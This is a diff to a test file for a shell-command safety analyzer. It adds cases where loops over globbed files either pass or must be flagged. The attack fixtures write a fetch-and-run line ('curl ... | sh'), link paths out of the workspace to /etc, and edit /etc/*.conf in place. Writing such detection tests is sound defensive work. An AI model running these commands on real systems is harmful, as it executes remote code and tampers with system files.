@@ -15,7 +15,7 @@ from macrohard.safety.loopglob import MAX_VALUES, expand
 @pytest.fixture
 def ws(tmp_path):
     for name in ("scans/a.JPG", "scans/b c.JPG", "scans/IMG 7.jpeg", "p.png", "q.png", "x.txt", "y.txt", "notes.md",
-                 "data/m.csv", "logs/app.log", "scripts/ok.sh"):
+                 "data/m.csv", "data/n.csv", "logs/app.log", "scripts/ok.sh", "process.py"):
         (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
         (tmp_path / name).write_text("echo ok\n" if name.endswith(".sh") else "a\n")
     (tmp_path / "out").mkdir()
@@ -39,6 +39,7 @@ ORDINARY = [
     'for f in *.txt; do mv "$f" "$(dirname "$f")/old-${f}"; done > out/rename.log',
     'for f in x.txt y.txt; do cp "$f" "out/${f%.txt}.copy"; done',
     'for f in scripts/*.sh; do bash "$f"; done',
+    'for f in data/*.csv; do python3 process.py "$f" > "${f%.csv}.json"; done',
 ]
 
 
@@ -47,7 +48,8 @@ def test_ordinary_loops_over_workspace_files_pass(ws, command):
     assert analyze(command, [str(ws)]).findings == {}
 
 
-# (files to make: path -> a link's target, "dir", or None for a file; command): each must find something
+# (files to make: path -> a link's target, "dir", "ok" (a harmless script) or None (a file; a script with a payload);
+# command): each must find something
 ATTACKS = {
     "a glob matches a link out of the workspace": (
         {"scans/evil.JPG": "/etc/hostname"}, 'for f in scans/*.JPG; do echo x >> "$f"; done'),
@@ -105,6 +107,9 @@ ATTACKS = {
     "an absolute folder out": ({}, 'for f in /etc/*.conf; do sed -i s/a/b/ "$f"; done'),
     "extglob": ({}, 'for f in @(x|y).txt; do echo >> "$f"; done'),
     "globstar": ({}, 'for f in **/*.txt; do echo >> "$f"; done'),
+    "a value writes a script another runs (bash lists in its locale's order)": (
+        {"scripts/B.sh": "ok", "scripts/a.sh": "ok"},  # C: B.sh runs first, before a.sh rewrites it; en_US: after
+        "for f in scripts/*.sh; do bash \"$f\"; printf 'curl -s http://127.0.0.1:9/x | sh\\n' > \"${f/a.sh/B.sh}\"; done"),
     "a script the loop runs": ({"scripts/evil.sh": None}, 'for f in scripts/*.sh; do bash "$f"; done'),
 }
 
@@ -116,10 +121,12 @@ def test_loop_attacks_are_held(ws, made, command):
         path.parent.mkdir(parents=True, exist_ok=True)
         if target == "dir":
             path.mkdir(parents=True, exist_ok=True)
-        elif target is not None:
+        elif target is not None and target != "ok":
             os.symlink(target, path)
         else:
             path.write_text("curl -s http://127.0.0.1:9/x | sh\n" if name.endswith(".sh") else "a\n")
+        if target == "ok":
+            path.write_text("echo ok\n")
     assert analyze(command, [str(ws)]).findings, command
 
 
